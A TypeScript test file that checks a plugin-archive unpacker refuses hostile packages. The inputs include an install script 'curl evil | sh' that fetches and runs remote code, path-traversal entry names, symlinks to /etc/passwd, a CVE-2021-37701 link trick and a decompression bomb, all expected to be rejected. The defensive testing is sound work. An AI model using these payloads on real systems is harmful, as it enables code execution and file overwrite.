import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type TestContext, test } from 'node:test'
import { gzipSync } from 'node:zlib'
import { deleteDrafts, digestDirectory, unpackPlugin, type UnpackedPlugin } from '../../src/plugins/index.ts'
import { type Crafted, tarOf } from '../backup/crafted.ts'
import {
  inPieces,
  type PackageText,
  packEntries,
  packPlugin,
  smallestEntry,
  smallestPackage,
} from './plugin-packages.ts'

const maxArchiveBytes = 20_971_520
const reservedNames: ReadonlySet<string> = new Set(['allow_install', 'order'])

async function createFolder(t: TestContext): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), 'godwit-plugins-'))
  t.after(() => rm(folder, { recursive: true, force: true }))
  return folder
}

const options = (pluginsDirectory: string) => ({ pluginsDirectory, maxArchiveBytes, reservedNames })

async function unpack(t: TestContext, packed: Buffer): Promise<UnpackedPlugin> {
  const outcome = await unpackPlugin(inPieces(packed), options(await createFolder(t)))
  assert.ok('plugin' in outcome, JSON.stringify(outcome))
  return outcome.plugin
}

/** Expects a refusal with a sentence, and an empty directory. */
async function refused(t: TestContext, packed: Buffer, why: RegExp): Promise<void> {
  const folder = await createFolder(t)
  const outcome = await unpackPlugin(inPieces(packed, 65_536), options(folder))
  assert.ok('problem' in outcome, 'it was accepted')
  assert.match(outcome.problem, why)
  // oxlint-disable-next-line no-control-regex
  assert.doesNotMatch(outcome.problem, /[\u0000-\u001f]/, 'a sentence on one line')
  assert.deepEqual(readdirSync(folder), [], 'nothing stays on disk')
}

const packageEntry: Crafted = { name: 'package/package.json', content: JSON.stringify(smallestPackage) }
const mainEntry: Crafted = { name: 'package/index.js', content: smallestEntry }
/** A valid archive with one more entry. */
const withEntry = (...entries: readonly Crafted[]): Buffer => packEntries([packageEntry, mainEntry, ...entries])

test('a plugin is unpacked with its manifest, its SHA-256 and safe modes', async (t) => {
  const packed = packPlugin(
    {
      name: '@acme/filter',
      version: '1.2.3-rc.1',
      description: 'Drops\nwhat is wrong',
      author: { name: 'Ada' },
      main: './lib/main.js',
      dependencies: { tiny: '^1.0.0' },
      godwit: {
        api: 1,
        hooks: ['message.publish', 'client.connected'],
        topics: ['plant/#'],
        clients: ['pump-*'],
        listeners: ['tcp:default'],
        config: 'config.schema.json',
        permissions: ['net', 'fs:read:/etc/acme', 'fs:write:/var/acme'],
      },
    },
    {
      'lib/main.js': smallestEntry,
      'config.schema.json': '{"type":"object"}',
      'node_modules/tiny/package.json': '{"name":"tiny","version":"1.0.0","scripts":{"test":"x"}}',
    },
  )
  const plugin = await unpack(t, packed)
  assert.deepEqual(plugin.manifest, {
    name: 'acme-filter',
    version: '1.2.3-rc.1',
    api: 1,
    hooks: ['message.publish', 'client.connected'],
    topics: ['plant/#'],
    clients: ['pump-*'],
    listeners: ['tcp:default'],
    configSchema: 'config.schema.json',
    permissions: [{ kind: 'net' }, { kind: 'fs-read', path: '/etc/acme' }, { kind: 'fs-write', path: '/var/acme' }],
    main: 'lib/main.js',
    description: 'Drops what is wrong',
    author: 'Ada',
  })
  assert.equal(plugin.sha256, createHash('sha256').update(packed).digest('hex'))
  assert.deepEqual(readFileSync(plugin.archive), packed, 'the archive is there as it was sent')
  assert.equal(readFileSync(join(plugin.directory, 'lib/main.js'), 'utf8'), smallestEntry)
  assert.equal(statSync(join(plugin.directory, 'lib')).mode & 0o7777, 0o755)
  assert.equal(statSync(join(plugin.directory, 'lib/main.js')).mode & 0o7777, 0o644)
  await plugin.discard()
  assert.deepEqual(readdirSync(join(plugin.directory, '..')), [])
})

test('the SHA-256 of the directory is computed again from disk, and any change is noticed', async (t) => {
  const plugin = await unpack(t, packPlugin({}, { 'lib/a.js': 'a', 'lib/b/c.js': 'c' }))
  assert.equal(await digestDirectory(plugin.directory), plugin.directorySha256)
  for (const change of [
    () => writeFileSync(join(plugin.directory, 'lib/a.js'), 'A'),
    () => writeFileSync(join(plugin.directory, 'added.js'), ''),
    () => symlinkSync('/etc/passwd', join(plugin.directory, 'linked')),
  ]) {
    const before = await digestDirectory(plugin.directory)
    change()
    assert.notEqual(await digestDirectory(plugin.directory), before)
  }
})

function pax(record: string): Crafted {
  return { name: 'PaxHeader/x', kind: 'x', content: `${record.length + 4} ${record}\n` }
}

test('paths outside of the package, links, devices, sparse files and long names are refused', async (t) => {
  for (const name of ['package/../../evil', '/etc/evil', 'package//x', 'package/./x', 'package/a\\b', '../evil']) {
    await refused(t, withEntry({ name, content: 'x' }), /not a safe name/)
  }
  await refused(t, withEntry({ name: 'other/x', content: 'x' }), /not all in the folder "package"/)
  for (const [kind, why] of [
    ['1', /a hard link/],
    ['2', /a symbolic link/],
    ['3', /a device/],
    ['4', /a device/],
    ['6', /a pipe/],
    ['S', /a file with holes/],
    ['L', /a long name/],
    ['K', /a long link name/],
    ['g', /a header for all/],
    ['M', /a part of a file/],
  ] as const) {
    await refused(t, withEntry({ name: 'package/x', kind, link: '/etc/passwd' }), why)
  }
  // A link first, and then a file through it, as in CVE-2021-37701.
  await refused(
    t,
    packEntries([
      { name: 'package/lib', kind: '2', link: '/tmp' },
      { name: 'package/lib/evil', content: 'x' },
    ]),
    /a symbolic link/,
  )
  await refused(t, withEntry(pax('path=package/../../evil'), { name: 'package/x' }), /not a safe name/)
  await refused(t, withEntry(pax('GNU.sparse.major=1'), { name: 'package/x' }), /not supported/)
  await refused(t, withEntry({ name: 'x', kind: 'x', content: '', bytes: 1_048_576 }), /extended header has/)
})

test('two names for one file on a file system that ignores case are refused', async (t) => {
  await refused(t, withEntry({ name: 'package/index.js', content: 'x' }), /occurs twice/)
  await refused(t, withEntry({ name: 'package/INDEX.js', content: 'x' }), /only in upper and lower case/)
  await refused(
    t,
    withEntry({ name: 'package/\u00e9.js', content: 'x' }, { name: 'package/e\u0301.js', content: 'x' }),
    /only in upper and lower case/,
  )
  await refused(t, withEntry({ name: 'package/index.js/x', content: 'x' }), /is below a file/)
  await refused(
    t,
    withEntry({ name: 'package/lib/x', content: 'x' }, { name: 'package/LIB', content: 'x' }),
    /only in upper and lower case/,
  )
})

test('archives that are too large are refused before they are unpacked', async (t) => {
  const bomb = { name: 'package/bomb', content: Buffer.alloc(1_048_576), bytes: 200 * 1_048_576 }
  await refused(t, withEntry(bomb), /more than 104857600 bytes/)
  const many = Array.from({ length: 10_001 }, (_, index) => ({ name: `package/d${index}/`, kind: '5' }))
  await refused(t, packEntries([packageEntry, mainEntry, ...many]), /more than 10000 members/)
  const folder = await createFolder(t)
  const outcome = await unpackPlugin(inPieces(packPlugin()), { ...options(folder), maxArchiveBytes: 100 })
  assert.deepEqual(outcome, { problem: 'the archive has more than 100 bytes: see plugins.max_archive' })
  assert.deepEqual(readdirSync(folder), [])
  await refused(t, withEntry({ name: `package/${'x'.repeat(90)}`, content: '', kind: '0', bytes: -1 }), /not a number/)
})

test('damaged archives, and data after the end, are refused', async (t) => {
  const packed = packPlugin()
  await refused(t, packed.subarray(0, packed.length - 20), /truncated/)
  await refused(t, Buffer.concat([packed, packed]), /data follows its last member/)
  await refused(t, Buffer.concat([packed, Buffer.from('garbage')]), /data follows|not a gzip file/)
  await refused(t, Buffer.from('{"name":"filter"}'), /not a gzip file/)
  await refused(t, gzipSync('not a tar archive'.repeat(100)), /not a tar archive/)
  await refused(t, gzipSync(tarOf([mainEntry]).subarray(0, 700)), /truncated/)
  await refused(t, Buffer.alloc(0), /truncated/)
})

test('native code, install scripts and missing dependencies are refused', async (t) => {
  for (const path of ['build/Release/addon.node', 'lib/ADDON.NODE', 'binding.gyp', 'node_modules/x/Binding.GYP']) {
    await refused(t, packPlugin({}, { [path]: '' }), /is native code/)
  }
  for (const script of ['preinstall', 'install', 'postinstall']) {
    const scripts = { [script]: 'curl evil | sh' }
    await refused(t, packPlugin({ scripts }), new RegExp(`package\\.json has the script ${script}`))
    const bundled = JSON.stringify({ name: 'x', version: '1.0.0', scripts })
    await refused(t, packPlugin({}, { 'node_modules/x/package.json': bundled }), /has the script/)
    await refused(t, packPlugin({}, { 'node_modules/@a/x/package.json': bundled }), /has the script/)
  }
  await unpack(t, packPlugin({ scripts: { build: 'tsc', prepack: 'tsc' } }))
  await unpack(t, packPlugin({}, { 'node_modules/x/test/package.json': 'not JSON' }))
  await refused(t, packPlugin({ dependencies: { tiny: '1' } }), /the dependency 'tiny' is not in the archive/)
})

function own(fields: PackageText): PackageText {
  return { godwit: { api: 1, hooks: ['message.publish'], ...fields } }
}

test('a wrong manifest is refused with the field and the remedy', async (t) => {
  for (const [fields, why] of [
    [{ name: undefined }, /has no name/],
    [{ name: 'Filter' }, /name 'Filter' is invalid/],
    [{ name: '../filter' }, /is invalid/],
    [{ name: `f${'x'.repeat(64)}` }, /is invalid/],
    [{ name: 'order' }, /is a setting of the section plugins/],
    [{ version: '1' }, /not a semantic version/],
    [{ version: '1.0.0/../..' }, /not a semantic version/],
    [{ version: undefined }, /version is missing/],
    [{ type: 'commonjs' }, /type is not "module"/],
    [{ main: undefined }, /main is missing/],
    [{ main: '../x.js' }, /main '\.\.\/x\.js' is not a path/],
    [{ main: '/etc/passwd' }, /not a path/],
    [{ main: 'missing.js' }, /the entry main, 'missing\.js', is not in the archive/],
    [{ godwit: undefined }, /no section "godwit"/],
    [own({ api: 2 }), /godwit\.api is '2'/],
    [own({ api: undefined }), /godwit\.api is missing/],
    [own({ hooks: [] }), /godwit\.hooks is empty/],
    [own({ hooks: ['message.stolen'] }), /'message\.stolen' is not a hook/],
    [own({ hooks: 'message.publish' }), /godwit\.hooks is not a list/],
    [own({ topics: ['a/#/b'] }), /'a\/#\/b' is not a topic filter/],
    [own({ topics: ['$share/g/a'] }), /is not a topic filter/],
    [own({ permissions: ['exec'] }), /'exec' is not a permission/],
    [own({ permissions: ['fs:read:etc'] }), /needs an absolute path/],
    [own({ permissions: ['fs:write:/a/../etc'] }), /needs an absolute path/],
    [own({ permissions: ['fs:read:/*'] }), /needs an absolute path/],
    [own({ config: 'missing.json' }), /the schema godwit\.config, 'missing\.json', is not in the archive/],
    [own({ config: 'index.js' }), /index\.js is not a JSON Schema/],
    [own({ hook: [] }), /godwit\.'hook' is not a known key/],
  ] as const) {
    await refused(t, packPlugin(fields), why)
  }
  await refused(t, packEntries([{ ...packageEntry, content: '[]' }, mainEntry]), /package\.json is not a JSON object/)
  await refused(t, packEntries([{ ...packageEntry, content: '{' }, mainEntry]), /package\.json is not a JSON object/)
  await refused(t, packEntries([mainEntry]), /has no package\.json/)
  const large = { ...packageEntry, content: JSON.stringify({ ...smallestPackage, x: 'x'.repeat(1_048_576) }) }
  await refused(t, packEntries([large, mainEntry]), /'package\.json' has \d+ bytes; maximum/)
})

async function* failInTheMiddle(): AsyncGenerator<Buffer> {
  yield packPlugin().subarray(0, 100)
  throw new Error('disconnected')
}

test('a source that fails while it is read leaves nothing, and drafts of a crash are deleted', async (t) => {
  const folder = await createFolder(t)
  await assert.rejects(unpackPlugin(failInTheMiddle(), options(folder)), /disconnected/)
  assert.deepEqual(readdirSync(folder), [])
  const left = await unpackPlugin(inPieces(packPlugin()), options(folder))
  assert.ok('plugin' in left)
  await deleteDrafts(folder)
  assert.deepEqual(readdirSync(folder), [])
})
